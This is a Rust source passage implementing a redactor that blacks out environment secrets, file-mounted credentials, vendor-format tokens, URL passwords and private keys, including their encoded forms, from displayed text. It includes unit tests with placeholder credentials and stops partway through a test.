//! Secrets of this machine, blacked out of what people read: those it knows (the worker's environment, its files, the hub's own) in
//! the ways they are written, and tokens that show by their form what they are.
//!
//! This is a net under mistakes (`env` in a result, a key in an error), not a wall: who wants a secret out can spell it backwards.

use std::{borrow::Cow, collections::BTreeMap, ffi::OsString, fmt, fs::File, io::Read, ops::Range, path::Path};

use aho_corasick::{AhoCorasick, BuildError};
use base64::{
    Engine,
    engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD},
};
use memchr::{memchr, memchr2, memmem, memrchr};
use percent_encoding::{AsciiSet, NON_ALPHANUMERIC, percent_decode_str, utf8_percent_encode};
use secrecy::{ExposeSecret, SecretString};
use serde_json::Value;

const REDACTED: &str = "[redacted]";
/// A shorter value is looked for only beside its name.
const LEAST: usize = 8;
/// Without a letter it is rather a number, a date or an address, unless it is as long as this.
const LEAST_OF_DIGITS: usize = 16;
/// Fewer characters than this are looked for nowhere: `X_KEY=1`.
const LEAST_BESIDE_NAME: usize = 4;
/// What is larger is no secret but a file.
const MOST: usize = 16 * 1024;
const FILE: u64 = 64 * 1024;
/// A line of a secret of several lines, looked for by itself: notes are lines.
const LINE: usize = 16;
/// So many strings of a secret that is JSON are looked for by themselves, this deep in it; the whole of it in any case.
const LEAVES: usize = 200;
const DEPTH: usize = 16;
/// JSON in a string of JSON.
const ESCAPED: usize = 2;
/// A line of base64 that goes on in the next.
const WRAPPED: usize = 16;
/// What of a text is not shown is looked at so far before and behind what is: a token or a key that lies at the cut is none without
/// its other half.
const REACH: usize = 8 * 1024;
/// How much longer a secret may be as it is written: each byte as `\\\\u0026`, in JSON in JSON.
const WRITTEN: usize = 7;
/// So far a password is looked for behind the `://` of a URL.
const AUTHORITY: usize = 512;

/// How names end that say what their value is. What stands behind in digits counts them: `API_KEY_2`.
const NAMES: &str = "TOKEN SECRET KEY PASSWORD PASSWD PASSPHRASE CREDENTIAL CREDENTIALS _PASS _PWD _PAT _AUTH _JWT";
/// Passwords that are words people write, without dashes and in small letters: blacked out everywhere they would take half of a text
/// with them, and they are no secret.
const COMMON: &str = "password passwort passphrase changeme changeit secretkey mysecret mypassword secretpassword yourpassword \
    yourapikey yoursecret yourtoken placeholder redacted postgres postgresql supabase supabaseadmin \
    administrator username localhost development production testtest undefined disabled required optional \
    anonymous authenticated servicerole serviceaccount authorizeduser externalaccount googleapiscom";

/// A token that shows by its form what it is: how it begins, of what it consists, and how much of that follows at least.
struct Form {
    begin: &'static str,
    of: fn(u8) -> bool,
    least: usize,
    /// Begins a word and has a digit: else `task-…` had a token in it.
    guarded: bool,
    /// Has a second and a third part behind dots.
    parts: bool,
}

const fn form(begin: &'static str, of: fn(u8) -> bool, least: usize) -> Form {
    Form { begin, of, least, guarded: false, parts: false }
}

fn alphanumeric(b: u8) -> bool {
    b.is_ascii_alphanumeric()
}

fn word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')
}

fn capital(b: u8) -> bool {
    b.is_ascii_uppercase() || b.is_ascii_digit()
}

fn base64_letter(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=')
}

fn any_base64_letter(b: u8) -> bool {
    base64_letter(b) || matches!(b, b'-' | b'_')
}

/// From the vendors' own documentation of their tokens' forms.
const FORMS: [Form; 26] = [
    form("ghp_", alphanumeric, 20),
    form("gho_", alphanumeric, 20),
    form("ghu_", alphanumeric, 20),
    form("ghs_", alphanumeric, 20),
    form("ghr_", alphanumeric, 20),
    form("github_pat_", word, 20),
    form("glpat-", word, 20),
    // Anthropic (sk-ant-…), OpenAI (sk-proj-…, sk-…) and those who took it from them.
    Form { begin: "sk-", of: word, least: 20, guarded: true, parts: false },
    form("sk_live_", alphanumeric, 16),
    form("rk_live_", alphanumeric, 16),
    form("AKIA", capital, 16),
    form("ASIA", capital, 16),
    form("xoxa-", word, 10),
    form("xoxb-", word, 10),
    form("xoxe-", word, 10),
    form("xoxp-", word, 10),
    form("xoxs-", word, 10),
    form("xapp-", word, 10),
    form("npm_", alphanumeric, 30),
    form("pypi-", word, 50),
    form("hf_", alphanumeric, 30),
    form("AIza", word, 30),
    // Supabase: a person's token, a project's secret key.
    form("sbp_", alphanumeric, 30),
    form("sb_secret_", word, 20),
    form("whsec_", base64_letter, 20),
    // A JSON Web Token.
    Form { begin: "eyJ", of: word, least: 10, guarded: false, parts: true },
];
const KEY_BEGINS: &[u8] = b"-----BEGIN ";
const KEY_ENDS: &[u8] = b"-----END ";

/// What a pattern that was found means.
#[derive(Clone, Copy)]
enum Meaning {
    /// A secret, with so many bytes of other text before and behind it.
    Known {
        before: usize,
        behind: usize,
    },
    /// The beginning of a form of this number.
    Form(usize),
    Url,
    KeyBegins,
    KeyEnds,
}

/// Blacks out secrets. Built once a worker; nothing of it prints.
pub struct Redactor {
    patterns: AhoCorasick,
    meanings: Vec<Meaning>,
    reach: usize,
}

impl fmt::Debug for Redactor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Redactor").finish_non_exhaustive()
    }
}

impl Redactor {
    /// Of an environment, the files that it names, and what else is secret here: keys, passwords, URLs with a password.
    pub(crate) fn new(
        environment: impl Iterator<Item = (OsString, OsString)>,
        secrets: &[SecretString],
    ) -> Result<Self, BuildError> {
        let mut known = Known::default();
        for (name, value) in environment {
            known.variable(&name.to_string_lossy(), &value.to_string_lossy());
        }
        for secret in secrets {
            known.value(None, secret.expose_secret());
        }
        let reach = REACH.max(known.longest * WRITTEN);
        let forms = FORMS.iter().enumerate().map(|(at, form)| (form.begin.to_owned(), Meaning::Form(at)));
        let marks = [(&b"://"[..], Meaning::Url), (KEY_BEGINS, Meaning::KeyBegins), (KEY_ENDS, Meaning::KeyEnds)];
        let marks = marks.map(|(mark, meaning)| (String::from_utf8_lossy(mark).into_owned(), meaning));
        let (patterns, meanings): (Vec<String>, Vec<Meaning>) =
            known.patterns.into_iter().chain(forms).chain(marks).unzip();
        Ok(Self { patterns: AhoCorasick::new(patterns)?, meanings, reach })
    }

    /// How much has to be known of what stands before and behind a text to know what in it is a half of a secret, in bytes.
    pub(crate) fn reach(&self) -> usize {
        self.reach
    }

    /// The text without secrets.
    pub(crate) fn text<'t>(&self, text: &'t str) -> Cow<'t, str> {
        self.part(text, 0..text.len())
    }

    /// A part of a text without secrets, also without those of which only a half is in it.
    pub(crate) fn part<'t>(&self, text: &'t str, part: Range<usize>) -> Cow<'t, str> {
        let mut spans = self.spans(text);
        spans.retain(|span| span.start < part.end && span.end > part.start);
        if spans.is_empty() {
            return Cow::Borrowed(&text[part]);
        }
        spans.sort_unstable_by_key(|span| span.start);
        let mut out = String::with_capacity(part.len());
        let mut shown = part.start;
        for span in spans {
            let start = span.start.max(part.start);
            if start >= shown && (start > shown || !out.ends_with(REDACTED)) {
                out.push_str(&text[shown..start]);
                out.push_str(REDACTED);
            }
            shown = shown.max(span.end.min(part.end));
        }
        out.push_str(&text[shown..part.end]);
        Cow::Owned(out)
    }

    /// Where secrets are, in no order. All that overlap are found: what one leaves of another would be half a secret.
    ///
    /// What is known is also looked for in what the text means where it is JSON, or JSON in JSON: there are many ways to write the
    /// same character, and this is all of them at once.
    fn spans(&self, text: &str) -> Vec<Range<usize>> {
        let mut spans = self.written(text);
        self.wrapped(text, |span| spans.push(span));
        let mut meant: Vec<Unescaped> = Vec::new();
        for _ in 0..ESCAPED {
            let Some(next) = Unescaped::of(meant.last().map_or(text, |meant| &meant.text)) else { break };
            meant.push(next);
            let stood = |at: usize| meant.iter().rev().fold(at, |at, meant| meant.stood(at));
            let mut found = |span: Range<usize>| spans.push(stood(span.start)..stood(span.end));
            if let Some(next) = meant.last() {
                self.known(next.text.as_bytes()).for_each(&mut found);
                self.wrapped(&next.text, found);
            }
        }
        spans
    }

    fn written(&self, text: &str) -> Vec<Range<usize>> {
        let bytes = text.as_bytes();
        let mut spans = Vec::new();
        // Up to where each form was looked at. A beginning inside of that can show nothing new, and looking again and again would
        // take quadratic time.
        let mut looked_at = [0; FORMS.len()];
        for found in self.patterns.find_overlapping_iter(bytes) {
            match self.meanings[found.pattern().as_usize()] {
                Meaning::Known { before, behind } => spans.push(found.start() + before..found.end() - behind),
                Meaning::Form(at) if found.start() < looked_at[at] => {}
                Meaning::Form(at) => spans.extend(FORMS[at].look(bytes, found.start(), &mut looked_at[at])),
                Meaning::Url => spans.extend(password(bytes, found.end()).filter(|span| {
                    let written = &text[span.clone()];
                    // What stands for one that is put in later is none.
                    !written.starts_with(['$', '{', '[', '*']) && !is_weak(written)
                })),
                Meaning::KeyBegins => spans.extend(private_key(bytes, found.start())),
                Meaning::KeyEnds => spans.extend(end_of_private_key(bytes, found.start())),
            }
        }
        spans
    }

    /// Where what is known stands as it is. Only that: what a token's form is would go on with the next line where lines are joined.
    fn known(&self, bytes: &[u8]) -> impl Iterator<Item = Range<usize>> {
        self.patterns.find_overlapping_iter(bytes).filter_map(|found| match self.meanings[found.pattern().as_usize()] {
            Meaning::Known { before, behind } => Some(found.start() + before..found.end() - behind),
            _ => None,
        })
    }

    /// What is known in base64 that is written in lines.
    fn wrapped(&self, text: &str, mut found: impl FnMut(Range<usize>)) {
        let bytes = text.as_bytes();
        // The lines joined, and where each begins: there, and in the text.
        let (mut joined, mut lines) = (Vec::new(), Vec::new());
        let mut seen = 0;
        while let Some(length) = memchr2(b'\n', b'\r', &bytes[seen..]) {
            let mut end = seen + length;
            let mut line = end - bytes[seen..end].iter().rev().take_while(|b| any_base64_letter(**b)).count();
            joined.clear();
            lines.clear();
            let mut next = next_line(bytes, end);
            while end - line >= WRAPPED && bytes.get(next).copied().is_some_and(any_base64_letter) {
                lines.push((joined.len(), line));
                joined.extend_from_slice(&bytes[line..end]);
                line = next;
                end = line + bytes[line..].iter().take_while(|b| any_base64_letter(**b)).count();
                next = next_line(bytes, end);
            }
            if lines.is_empty() {
                seen = next;
                continue;
            }
            seen = end;
            lines.push((joined.len(), line));
            joined.extend_from_slice(&bytes[line..end]);
            let stood = |at: usize| {
                let (here, there) = lines[lines.partition_point(|(here, _)| *here <= at) - 1];
                there + (at - here)
            };
            self.known(&joined).filter(|span| !span.is_empty()).for_each(|span| {
                found(stood(span.start)..stood(span.end - 1) + 1);
            });
        }
    }
}

/// A text as what is escaped in it means.
struct Unescaped {
    text: String,
    /// From where on in this text what follows stood from where on in the other, in order.
    from: Vec<(usize, usize)>,
}

impl Unescaped {
    /// None where nothing is escaped.
    fn of(text: &str) -> Option<Self> {
        let mut from = Vec::new();
        let mut out = String::new();
        let (mut taken, mut seen) = (0, 0);
        while let Some(length) = memchr(b'\\', &text.as_bytes()[seen..]) {
            let at = seen + length;
            let Some((c, length)) = escaped(&text[at..]) else {
                seen = at + 1;
                continue;
            };
            out.reserve(if from.is_empty() { text.len() } else { 0 });
            out.push_str(&text[taken..at]);
            from.push((out.len(), at));
            out.push(c);
            taken = at + length;
            from.push((out.len(), taken));
            seen = taken;
        }
        out.push_str(&text[taken..]);
        (taken > 0).then_some(Self { text: out, from })
    }

    fn stood(&self, at: usize) -> usize {
        let behind = self.from.partition_point(|(here, _)| *here <= at);
        let (here, there) = behind.checked_sub(1).map_or((0, 0), |last| self.from[last]);
        there + (at - here)
    }
}

/// The character that is escaped as JSON does it at the beginning of a text, and how many bytes that takes.
fn escaped(text: &str) -> Option<(char, usize)> {
    let unit = |at: usize| {
        let digits = text.get(at..at + 6)?.strip_prefix("\\u")?;
        digits.bytes().all(|b| b.is_ascii_hexdigit()).then(|| u16::from_str_radix(digits, 16).ok())?
    };
    Some(match text.as_bytes().get(1)? {
        b'u' => {
            let units = [unit(0)?, unit(6).unwrap_or_default()];
            let c = char::decode_utf16(units).next()?.ok()?;
            (c, 6 * c.len_utf16())
        }
        b'n' => ('\n', 2),
        b'r' => ('\r', 2),
        b't' => ('\t', 2),
        b'b' => ('\u{8}', 2),
        b'f' => ('\u{c}', 2),
        b @ (b'"' | b'\'' | b'\\' | b'/') => (char::from(*b), 2),
        _ => return None,
    })
}

/// Where the text of the line begins behind the line end that is at `end`; the end of the text if there is none.
fn next_line(bytes: &[u8], end: usize) -> usize {
    let behind = match bytes[end..] {
        [b'\r', b'\n', ..] => end + 2,
        [b'\r' | b'\n', ..] => end + 1,
        _ => return bytes.len(),
    };
    behind + bytes[behind..].iter().take_while(|b| matches!(b, b' ' | b'\t')).count()
}

#[cfg(test)]
impl Default for Redactor {
    fn default() -> Self {
        Self::new(std::iter::empty(), &[]).unwrap()
    }
}

impl Form {
    fn look(&self, bytes: &[u8], start: usize, looked_at: &mut usize) -> Option<Range<usize>> {
        let run = |from: usize| from + bytes[from..].iter().take_while(|b| (self.of)(**b)).count();
        let body = start + self.begin.len();
        // Also behind a line end as a string literal writes it.
        let begins_word = match bytes[..start] {
            [.., b'\\', b'n' | b'r' | b't'] => true,
            [.., before] => !word(before),
            [] => true,
        };
        if self.guarded && !begins_word {
            return None;
        }
        let mut end = run(body);
        *looked_at = end;
        if end - body < self.least || (self.guarded && !bytes[body..end].iter().any(u8::is_ascii_digit)) {
            return None;
        }
        for _ in 0..if self.parts { 2 } else { 0 } {
            if bytes.get(end) != Some(&b'.') {
                return None;
            }
            let next = run(end + 1);
            if next - end <= self.least {
                return None;
            }
            end = next;
        }
        Some(start..end)
    }
}

/// Where the password of a URL stands, whose user and host begin at `at`.
fn password(bytes: &[u8], at: usize) -> Option<Range<usize>> {
    let reach = &bytes[at..bytes.len().min(at + AUTHORITY)];
    let ends = |b: &u8| b.is_ascii_whitespace() || b.is_ascii_control() || b"/?#\"'`<>\\(){}|".contains(b);
    let authority = &reach[..reach.iter().position(ends).unwrap_or(reach.len())];
    let user = &authority[..memrchr(b'@', authority)?];
    let colon = memchr(b':', user)?;
    (colon + 1 < user.len()).then(|| at + colon + 1..at + user.len())
}

/// Behind the line at `at` (which begins `-----BEGIN ` or `-----END `), if it is one of a private key's.
fn behind_key_line(bytes: &[u8], at: usize, mark: &[u8]) -> Option<usize> {
    let rest = &bytes[at + mark.len()..];
    let kind = &rest[..rest.iter().take(60).take_while(|b| capital(**b) || **b == b' ').count()];
    (memmem::find(kind, b"PRIVATE KEY").is_some() && rest[kind.len()..].starts_with(b"-----"))
        .then(|| at + mark.len() + kind.len() + 5)
}

/// A private key, whole or as much of it as there is.
fn private_key(bytes: &[u8], at: usize) -> Option<Range<usize>> {
    let begin = behind_key_line(bytes, at, KEY_BEGINS)?;
    // Words between two such lines are no key, and may be what a program is about to do.
    if let Some(dashes) = memmem::find(&bytes[begin..], b"-----")
        && bytes[begin + dashes..].starts_with(KEY_ENDS)
        && let Some(end) = behind_key_line(bytes, begin + dashes, KEY_ENDS)
        && is_key(&bytes[begin..begin + dashes])
    {
        return Some(at..end);
    }
    // Cut off: lines of base64 belong to it, words of a sentence do not.
    let mut end = begin;
    loop {
        let line = end + bytes[end..].iter().take_while(|b| separates(**b)).count();
        // Of `\n`, as a string literal writes a line end, the letter counts to what follows: both are base64.
        let length = bytes[line..].iter().take_while(|b| base64_letter(**b)).count();
        if length < LINE {
            return Some(at..end);
        }
        end = line + length;
    }
}

/// Whether it is what stands between the lines of a private key: the headers of an encrypted one, lines of base64, and at most two short
/// ones, the last of them and what is left of a line end that is written as `\\n`.
fn is_key(inner: &[u8]) -> bool {
    let headers = |word: &[u8]| word.ends_with(b":") || word.contains(&b',');
    let words: Vec<&[u8]> = inner.split(|b| separates(*b)).filter(|word| !word.is_empty()).collect();
    let first = words.iter().position(|word| word.len() >= LINE && !headers(word)).unwrap_or(words.len());
    let (before, lines) = words.split_at(first);
    let short = lines.iter().rev().take_while(|word| word.len() < LINE).count();
    (before.is_empty() || before.iter().any(|word| headers(word)) && before.len() <= 6)
        && short <= 2
        && lines.iter().all(|word| word.iter().all(|b| base64_letter(*b)))
        && lines[..lines.len() - short].iter().all(|word| word.len() >= LINE)
}

/// The rest of a private key whose beginning was cut off.
fn end_of_private_key(bytes: &[u8], at: usize) -> Option<Range<usize>> {
    let end = behind_key_line(bytes, at, KEY_ENDS)?;
    let mut start = at;
    loop {
        let line = start - bytes[..start].iter().rev().take_while(|b| separates(**b)).count();
        let length = bytes[..line].iter().rev().take_while(|b| base64_letter(**b)).count();
        // The last line of a key may be short.
        if length == 0 || (start < at && length < LINE) {
            return Some(start..end);
        }
        start = line - length;
    }
}

fn separates(b: u8) -> bool {
    b.is_ascii_whitespace() || b == b'\\'
}

/// Whether a value is no secret although its name says so: too short, a number, one character again and again, a common word.
fn is_weak(value: &str) -> bool {
    let mut seen = [false; 256];
    value.bytes().for_each(|b| seen[usize::from(b)] = true);
    let plain: String = value.chars().filter(|c| !matches!(c, '-' | '_' | ' ' | '.')).collect();
    value.chars().count() < LEAST
        || seen.iter().filter(|seen| **seen).count() < 4
        || (!value.chars().any(char::is_alphabetic) && value.len() < LEAST_OF_DIGITS)
        || COMMON.split_ascii_whitespace().any(|common| common == plain.to_ascii_lowercase())
}

fn says_secret(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '_');
    NAMES.split_ascii_whitespace().any(|end| name.ends_with(end))
}

/// The patterns of what is known. Each once.
#[derive(Default)]
struct Known {
    patterns: BTreeMap<String, Meaning>,
    /// In bytes, as it is.
    longest: usize,
}

impl Known {
    fn variable(&mut self, name: &str, value: &str) {
        if let Some(plain) = name.strip_suffix("_FILE") {
            if let Some(text) = says_secret(plain).then(|| read(Path::new(value))).flatten() {
                self.value(Some(plain), &text);
            } else if hub::config::is_secret(plain)
                && let Some(text) = read(Path::new(value))
            {
                self.urls(&text);
            }
        } else if name.ends_with("_HEADERS") {
            // `name=value,…`, percent-encoded, as OpenTelemetry writes them.
            for (_, value) in value.split(',').filter_map(|header| header.split_once('=')) {
                self.value(Some(name), &percent_decode_str(value).decode_utf8_lossy());
            }
        } else if says_secret(name) {
            self.value(Some(name), value);
        } else {
            self.urls(value);
        }
    }

    fn value(&mut self, name: Option<&str>, value: &str) {
        self.part(name, value, DEPTH, &mut { LEAVES });
    }

    /// A value, or a string in one.
    fn part(&mut self, name: Option<&str>, value: &str, depth: usize, left: &mut usize) {
        let value = value.trim();
        let value = ["Bearer ", "Basic "].iter().find_map(|scheme| value.strip_prefix(scheme)).unwrap_or(value);
        self.urls(value);
        if let Ok(json @ (Value::Object(_) | Value::Array(_) | Value::String(_))) = serde_json::from_str(value) {
            if !is_weak(value) {
                self.secret(value);
            }
            self.strings(name, &json, depth, left);
        } else if value.contains("://") || (value.starts_with('/') && Path::new(value).exists()) {
            // An address or a place: what is secret in it is known by now, or not in it.
        } else if !is_weak(value) {
            self.secret(value);
            let lines = value.lines().map(str::trim).filter(|line| line.len() >= LINE && line.len() < value.len());
            lines.filter(|line| !line.starts_with("-----") && !is_weak(line)).for_each(|line| self.secret(line));
        } else if let Some(name) = name.filter(|_| value.len() >= LEAST_BESIDE_NAME) {
            for (before, behind) in
                [("=", ""), ("=\"", "\""), ("='", "'"), (": ", ""), ("\":\"", "\""), ("\": \"", "\"")]
            {
                self.beside(&format!("{name}{before}"), value, behind);
            }
        }
    }

    /// Every string in a JSON: which of them are secret, their names alone do not tell.
    fn strings(&mut self, name: Option<&str>, json: &Value, depth: usize, left: &mut usize) {
        let Some(depth) = depth.checked_sub(1) else { return };
        match json {
            Value::String(text) if *left > 0 => {
                *left -= 1;
                self.part(name, text, depth, left);
            }
            Value::Array(items) => items.iter().for_each(|item| self.strings(name, item, depth, left)),
            Value::Object(fields) => {
                for (name, field) in fields {
                    self.strings(Some(name.as_str()).filter(|name| says_secret(name)), field, depth, left);
                }
            }
            _ => {}
        }
    }

    /// The passwords of the URLs in it.
    fn urls(&mut self, text: &str) {
        for at in memmem::find_iter(text.as_bytes(), b"://") {
            let Some(password) = password(text.as_bytes(), at + 3) else { continue };
            let written = &text[password];
            let meant = percent_decode_str(written).decode_utf8_lossy();
            if is_weak(&meant) {
                self.beside(":", written, "@");
            } else {
                self.secret(&meant);
                self.add(written.to_owned(), 0, 0);
            }
        }
    }

    fn beside(&mut self, before: &str, value: &str, behind: &str) {
        self.longest = self.longest.max(before.len() + value.len() + behind.len());
        self.add(format!("{before}{value}{behind}"), before.len(), behind.len());
    }

    /// A secret, in every way it is written, but for those that are undone before it is looked for.
    fn secret(&mut self, value: &str) {
        // What `encodeURIComponent` and what a path leave as they are.
        const COMPONENT: &AsciiSet = &NON_ALPHANUMERIC
            .remove(b'-')
            .remove(b'_')
            .remove(b'.')
            .remove(b'~')
            .remove(b'!')
            .remove(b'*')
            .remove(b'\'')
            .remove(b'(')
            .remove(b')');
        const UNRESERVED: &AsciiSet = &NON_ALPHANUMERIC.remove(b'-').remove(b'_').remove(b'.').remove(b'~');
        const PATH: &AsciiSet = &UNRESERVED.remove(b'/');
        if value.len() > MOST {
            return;
        }
        self.longest = self.longest.max(value.len());
        self.add(value.to_owned(), 0, 0);
        for set in [NON_ALPHANUMERIC, COMPONENT, UNRESERVED, PATH] {
            let encoded = utf8_percent_encode(value, set).to_string();
            self.add(encoded.replace("%20", "+"), 0, 0);
            self.add(lower_hex(&encoded), 0, 0);
            self.add(encoded, 0, 0);
        }
        // Alone and inside of something longer, as `user:password` is: three ways to lie in groups of three bytes. The letters at
        // both ends depend on what stands beside it and are left out.
        for shift in 0..3 {
            let bytes = [&[0; 2][..shift], value.as_bytes()].concat();
            for engine in [STANDARD_NO_PAD, URL_SAFE_NO_PAD] {
                let encoded = engine.encode(&bytes);
                let begin = (shift * 8).div_ceil(6);
                let end = bytes.len() * 8 / 6;
                self.add(encoded[begin..end].to_owned(), 0, 0);
            }
        }
    }

    fn add(&mut self, pattern: String, before: usize, behind: usize) {
        // Where a secret is both, the whole of it is blacked out.
        let meaning = Meaning::Known { before, behind };
        if before + behind == 0 {
            self.patterns.insert(pattern, meaning);
        } else {
            self.patterns.entry(pattern).or_insert(meaning);
        }
    }
}

/// `%2F` as `%2f`.
fn lower_hex(encoded: &str) -> String {
    let mut digits = 0;
    let lower = |c: char| {
        if c == '%' {
            digits = 2;
        } else if digits > 0 {
            digits -= 1;
            return c.to_ascii_lowercase();
        }
        c
    };
    encoded.chars().map(lower).collect()
}

/// A file that a secret is in: a small plain one.
fn read(path: &Path) -> Option<String> {
    // Before it is opened: of a pipe that would wait.
    path.metadata().ok().filter(|meta| meta.is_file() && meta.len() <= FILE)?;
    let mut text = Vec::new();
    File::open(path).ok()?.take(FILE).read_to_end(&mut text).ok()?;
    Some(String::from_utf8_lossy(&text).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn of(variables: &[(&str, &str)]) -> Redactor {
        Redactor::new(variables.iter().map(|(name, value)| (name.into(), value.into())), &[]).unwrap()
    }

    #[test]
    fn known_secrets_are_blacked_out_however_they_are_written() {
        let secret = "hunter2/&=+ä\"quoted\"";
        let redactor = of(&[("MY_API_KEY", secret)]);
        for written in [
            secret.to_owned(),
            serde_json::to_string(secret).unwrap(),
            STANDARD_NO_PAD.encode(secret),
            URL_SAFE_NO_PAD.encode(format!("user:{secret}")),
            base64::engine::general_purpose::STANDARD.encode(format!("me:{secret}\n")),
            utf8_percent_encode(secret, NON_ALPHANUMERIC).to_string(),
            lower_hex(&utf8_percent_encode(secret, NON_ALPHANUMERIC).to_string()),
            "hunter2%2F%26%3D%2B%C3%A4%22quoted%22".into(),
            "hunter2/%26%3D%2B%C3%A4%22quoted%22".into(),
        ] {
            let text = redactor.text(&written).into_owned();
            assert!(text.contains(REDACTED) && text.len() < REDACTED.len() + 12, "{written} is {text}");
        }
        assert_eq!(redactor.text(&format!("MY_API_KEY={secret}\nPATH=/bin")), "MY_API_KEY=[redacted]\nPATH=/bin");
        assert!(matches!(redactor.text("nothing of it"), Cow::Borrowed(_)));
    }

    #[test]
    fn the_output_of_env_is_without_secrets() {
        let variables = [
            ("GITHUB_TOKEN", "c0ffee-0123456789"),
            ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG"),
            ("NPM_TOKEN", "f00-ba7-ba2-qux"),
            ("DATABASE_URL", "postgres://app:s3cr3t%2Fpassword@db.example/app"),
            ("https_proxy", "http://me:pr0xy-pass@proxy.example:3128"),
            ("API_KEY_2", "second-key-of-two"),
            ("DB_PWD", "Tr0ub4dor&3"),
            ("OTEL_EXPORTER_OTLP_HEADERS", "authorization=Bearer%20c0llector-key,x=1"),
            ("HOME", "/home/ada"),
        ];
        let printed: String = variables.map(|(name, value)| format!("{name}={value}\n")).concat();
        let shown = of(&variables).text(&printed).into_owned();
        for secret in ["c0ffee", "wJalr", "f00-", "s3cr3t", "pr0xy-pass", "second-key", "Tr0ub", "c0llector"] {
            assert!(!shown.contains(secret), "{secret} in:\n{shown}");
        }
        assert!(shown.contains("postgres://app:[redacted]@db.example/app\n"), "{shown}");
        assert!(
            shown.contains("http://me:[redacted]@proxy.example:3128\n") && shown.contains("HOME=/home/ada"),
            "{shown}"
        );
        assert_eq!(of(&variables).text("s3cr3t/password"), REDACTED);
    }

    #[test]
    fn the_hubs_own_secrets_are_handed_in() {
        let secrets =
            ["postgres://u:hush-hush-1@h/db", "device-secret-1"].map(|text| SecretString::from(text.to_owned()));
        let redactor = Redactor::new(std::iter::empty(), &secrets).unwrap();
        assert_eq!(redactor.text("hush-hush-1 and device-secret-1"), "[redacted] and [redacted]");
        assert!(!format!("{redactor:?}").contains("hush"));
    }

    #[test]
    fn secrets_in_files_are_known_and_public_files_are_not() {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| {
            let path = folder.path().join(name);
            std::fs::write(&path, text).unwrap();
            path.to_str().unwrap().to_owned()
        };
        let token = write("token", "mounted-token-9\n");
        let url = write("url", "postgres://u:mounted-pass-9@h/db\n");
        let public = write("ca.pem", "certificate-of-an-authority");
        let lines = write("lines", "first-line-of-a-key-0123\nsecond-line-of-a-key-0123\n");
        let account =
            write("account", r#"{"type": "service_account", "private_key": "line-1-of-the-key\nline-2-of-the-key"}"#);
        let redactor = of(&[
            ("HUB_TOKEN_FILE", &token),
            ("DATABASE_URL_FILE", &url),
            ("SSL_CERT_FILE", &public),
            ("DEPLOY_KEY_FILE", &lines),
            ("GOOGLE_CREDENTIALS_FILE", &account),
            ("SSH_KEY", &token),
            ("GONE_TOKEN_FILE", "/nowhere/at/all"),
            ("FOLDER_TOKEN_FILE", "/"),
        ]);
        assert_eq!(redactor.text("mounted-token-9 mounted-pass-9"), "[redacted] [redacted]");
        assert_eq!(redactor.text("> second-line-of-a-key-0123"), "> [redacted]");
        assert_eq!(redactor.text("line-2-of-the-key"), REDACTED);
        for public in ["certificate-of-an-authority", "service_account", token.as_str()] {
            assert_eq!(redactor.text(public), public);
        }
    }

    #[test]
    fn a_secret_that_is_json_is_known_whole_and_in_its_parts() {
        let google = r#"{"installed":{"client_id":"0123-abcd.apps.example","auth_uri":"https://accounts.example/o/oauth2/auth",
            "client_secret":"GOCSPX-9fK2mmQv7Lw31bbZ","redirect_uris":["http://localhost"]}}"#;
        let docker = r#"{"auths":{"ghcr.example":{"auth":"b2N0b2NhdDpodW50ZXIyMg=="}}}"#;
        let list = r#"["first-of-the-list", {"private": "line-one-of-the-key\nline-two-of-the-key", "type": "service_account"}]"#;
        let quoted = serde_json::to_string(r#"{"deeper": "in-json-in-json"}"#).unwrap();
        let redactor = of(&[
            ("GOOGLE_CLIENT_SECRET", google),
            ("DOCKER_AUTH", docker),
            ("JSON_SECRET", list),
            ("QUOTED_SECRET", &quoted),
            ("WEAK_SECRET", r#"{"token": "12345678"}"#),
        ]);
        for whole in [google, docker, list, quoted.as_str()] {
            assert_eq!(redactor.text(&format!("<{whole}>")), "<[redacted]>");
        }
        for part in [
            "GOCSPX-9fK2mmQv7Lw31bbZ",
            "0123-abcd.apps.example",
            "b2N0b2NhdDpodW50ZXIyMg==",
            "first-of-the-list",
            "line-two-of-the-key",
            "in-json-in-json",
        ] {
            assert_eq!(redactor.text(&format!("<{part}>")), "<[redacted]>");
        }
        let text = "https://accounts.example/o/oauth2/auth of a service_account with 12345678 rows";
        assert_eq!(redactor.text(text), text);
        assert_eq!(redactor.text(r#"{"token":"12345678", "x": 1}"#), r#"{"token":"[redacted]", "x": 1}"#);
    }

    #[test]
    fn of_a_secret_of_many_strings_the_whole_and_the_first_are_known() {
        let many: Vec<String> = (0..5000).map(|n| format!("string-number-{n}-of-many")).collect();
        let many = serde_json::to_string(&many).unwrap();
        let deep = format!("{}\"at-the-bottom-of-it\"{}", "[".repeat(100), "]".repeat(100));
        let redactor = of(&[("A_SECRET", &many[..]), ("B_SECRET", &deep)]);
        assert!(redactor.meanings.len() < 100 * LEAVES, "{}", redactor.meanings.len());
        assert_eq!(redactor.text("string-number-7-of-many"), REDACTED);
        assert_eq!(redactor.text(&deep), REDACTED);
    }

    #[test]
    fn secrets_are_found_however_json_is_written() {
        let secret = r#"p&<w>ä😀/"x"\y"#;
        let redactor = of(&[("A_PASSWORD", secret)]);
        let plain = serde_json::to_string(secret).unwrap();
        let go = plain.replace('&', "\\u0026").replace('<', "\\u003c").replace('>', "\\u003e");
        let python = plain.replace('ä', "\\u00e4").replace('😀', "\\ud83d\\ude00");
        let all: String = secret.encode_utf16().map(|unit| format!("\\u{unit:04X}")).collect();
        for json in [plain.clone(), go, python, plain.replace('/', "\\/"), format!("\"{all}\"")] {
            let read: String = serde_json::from_str(&json).unwrap();
            assert_eq!(read, secret);
            assert_eq!(redactor.text(&format!("{{\"a\": {json}}}")), "{\"a\": \"[redacted]\"}", "{json}");
            let twice = serde_json::to_string(&format!("{{\"a\":{json}}}")).unwrap();
